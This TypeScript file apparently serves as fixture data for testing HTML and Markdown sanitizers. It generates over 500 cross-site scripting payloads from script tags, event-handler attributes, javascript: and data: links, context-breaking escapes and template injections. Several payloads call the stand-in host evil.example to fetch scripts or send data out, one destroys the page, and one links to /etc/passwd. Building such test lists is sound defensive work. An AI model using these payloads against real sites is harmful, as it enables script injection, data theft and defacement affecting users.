// Texts that become markup or script where they are not escaped: written out by kind, and multiplied by ways to hide them.

const CALLS = ["alert(1)", "fetch('//evil.example')", "document.body.remove()"] as const;

const TAGS = [
  "<script>CALL</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>CALL</scr</script>ipt>",
  "<img src=x onerror=CALL>",
  "<img src=x onerror='CALL'",
  '<img src="x" onerror="CALL">',
  "<svg onload=CALL>",
  "<svg/onload=CALL>",
  "<svg><script>CALL</script></svg>",
  "<svg><animate onbegin=CALL attributeName=x dur=1s>",
  "<math><mtext></p><img src=x onerror=CALL></math>",
  "<body onload=CALL>",
  "<iframe src=javascript:CALL>",
  "<iframe srcdoc='<script>CALL</script>'>",
  "<object data=javascript:CALL>",
  "<embed src=javascript:CALL>",
  "<details open ontoggle=CALL>",
  "<input autofocus onfocus=CALL>",
  "<select autofocus onfocus=CALL>",
  "<textarea autofocus onfocus=CALL>",
  "<video><source onerror=CALL></video>",
  "<audio src=x onerror=CALL>",
  "<marquee onstart=CALL>",
  "<form action=//evil.example><button>go</button></form>",
  "<button formaction=javascript:CALL>go</button>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'</style>",
  "<a href=javascript:CALL>x</a>",
  "<template><script>CALL</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
  "<!--><img src=x onerror=CALL>-->",
  "<![CDATA[<img src=x onerror=CALL>]]>",
  "<?xml version='1.0'?><img src=x onerror=CALL>",
  "<x onclick=CALL>click</x>",
  "<dialog open><img src=x onerror=CALL></dialog>",
] as const;

/** Ways out of the place that a text is put into. */
const ESCAPES = [
  "",
  '">',
  "'>",
  "</textarea>",
  "</title>",
  "</code></td></tr></table>",
  "</bdi></h1>",
  "-->",
  "]]>",
  "\u0000",
  "</script>",
] as const;

const ATTRIBUTES = [
  '" onfocus="CALL" autofocus="',
  "' onfocus='CALL' autofocus='",
  '" style="background:url(//evil.example)" x="',
  '" formaction="javascript:CALL" x="',
  "x onfocus=CALL autofocus",
  "&#34; onfocus=&#34;CALL&#34;",
  '\u2028" onfocus="CALL',
  "`onfocus=CALL`",
  "{{constructor.constructor('CALL')()}}",
  "${CALL}",
] as const;

/** What a text in Markdown can try. */
const LINKS = [
  "[x](javascript:CALL)",
  "[x](JaVaScRiPt:CALL)",
  "[x](java\u0000script:CALL)",
  "[x](java&#x09;script:CALL)",
  "[x](&#106;avascript:CALL)",
  "[x](&Tab;javascript:CALL)",
  "[x]( javascript:CALL)",
  "[x](<javascript:CALL>)",
  "[x](vbscript:CALL)",
  "[x](data:text/html,<script>CALL</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/identity)",
  "[x](?user=eve)",
  "[x](#vote)",
  "[x]: javascript:CALL\n\n[x]",
  "<javascript:CALL>",
  "![x](https://evil.example/track.png)",
  "![x](javascript:CALL)",
  '![x](x"onerror="CALL)',
  "[![x](https://evil.example/t.png)](javascript:CALL)",
  '[x](https://ok.example "title" onclick="CALL")',
  "[x](https://ok.example'onclick='CALL)",
  '[x](https://ok.example"onclick="CALL)',
  "[x](https://ok.example/\u0000javascript:CALL)",
  "[<img src=x onerror=CALL>](https://ok.example)",
  "# <img src=x onerror=CALL>",
  "`<img src=x onerror=CALL>`",
  '```html"onload=CALL\n<script>CALL</script>\n```',
  "| a |\n|---|\n| <script>CALL</script> |",
  "> <script>CALL</script>",
  "1. <svg onload=CALL>",
  "<a href='javascript:CALL'>x</a>",
  "&lt;script&gt;CALL&lt;/script&gt;",
  "\\<script>CALL</script>",
] as const;

function fill(templates: readonly string[]): readonly string[] {
  return templates.flatMap((template) => CALLS.map((call) => template.replaceAll("CALL", call)));
}

/** Distinct, more than 500. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...ESCAPES.flatMap((escape) => fill(TAGS).map((payload) => escape + payload)),
    ...fill(ATTRIBUTES),
    ...fill(LINKS),
  ]),
];
